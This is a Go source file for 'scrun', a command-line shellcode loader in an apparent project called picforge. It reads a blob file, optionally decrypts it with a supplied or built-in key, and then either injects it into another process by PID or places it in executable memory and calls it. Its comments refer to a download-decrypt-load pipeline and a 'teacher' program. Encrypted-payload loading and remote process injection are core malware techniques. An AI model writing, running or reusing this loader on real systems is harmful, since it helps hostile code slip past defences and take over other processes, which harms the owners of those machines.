// scrun is the external collaborator spec.md §1 calls out as outside
// the core's hard-engineering trio: it reads a raw blob file (the
// extraction artifact from §6), allocates memory for it, optionally
// decrypts it first, copies it in, and invokes it with the two
// fastcall arguments the entry ABI expects. Grounded on the teacher's
// cmd/main.go download-decrypt-load pipeline, minus the pkg/extract
// and pkg/net imports that pipeline used but that this retrieval pack
// never actually ships (see DESIGN.md).
package main

import (
	"flag"
	"os"

	"github.com/voidwalk/picforge/pkg/config"
	"github.com/voidwalk/picforge/pkg/decrypt"
	"github.com/voidwalk/picforge/pkg/inject"
	"github.com/voidwalk/picforge/pkg/logging"
	"github.com/voidwalk/picforge/pkg/platform"
)

func main() {
	fs := flag.NewFlagSet("scrun", flag.ExitOnError)
	opts := config.RegisterRunFlags(fs)
	fs.Parse(os.Args[1:])
	opts.LoadEnv()

	log := logging.Default()

	if opts.BlobPath == "" {
		log.Error("missing -blob")
		os.Exit(2)
	}

	raw, err := os.ReadFile(opts.BlobPath)
	if err != nil {
		log.Error("reading %s: %v", opts.BlobPath, err)
		os.Exit(1)
	}

	blob := raw
	if opts.Encrypted {
		if opts.KeyHex != "" {
			key, kerr := decodeHexKey(opts.KeyHex)
			if kerr != nil {
				log.Error("%v", kerr)
				os.Exit(1)
			}
			blob, err = decrypt.DecryptWithKey(raw, key)
		} else {
			blob, err = decrypt.Decrypt(raw)
		}
		if err != nil {
			log.Error("decrypting blob: %v", err)
			os.Exit(1)
		}
		log.Info("decrypted blob: %d bytes", len(blob))
	}

	if opts.PID != 0 {
		log.Info("injecting %d bytes into pid %d", len(blob), opts.PID)
		if err := inject.Remote(blob, uint32(opts.PID)); err != nil {
			log.Error("remote injection failed: %v", err)
			os.Exit(1)
		}
		log.Info("remote injection succeeded; scrun does not wait for completion")
		return
	}

	runLocal(log, blob, opts)
}

func runLocal(log *logging.Logger, blob []byte, opts *config.RunOptions) {
	um := platform.NewUserMode()

	base, err := um.VirtualAllocExecute(uintptr(len(blob)))
	if err != nil {
		log.Error("allocating memory: %v", err)
		os.Exit(1)
	}
	um.WriteBlob(base, blob)

	log.Info("blob resident at %#x (%d bytes), invoking with arg1=%#x arg2=%#x", base, len(blob), opts.Arg1, opts.Arg2)

	invoke(base, uintptr(opts.Arg1), uintptr(opts.Arg2))

	accessible, perr := um.ProbeAccessible(base)
	switch {
	case perr != nil:
		log.Error("probing memory at %#x: %v", base, perr)
	case accessible:
		log.Info("entry returned; memory at %#x was not freed (no cleanup requested)", base)
	default:
		log.Info("entry returned; memory at %#x was freed by the blob's own cleanup", base)
	}
}
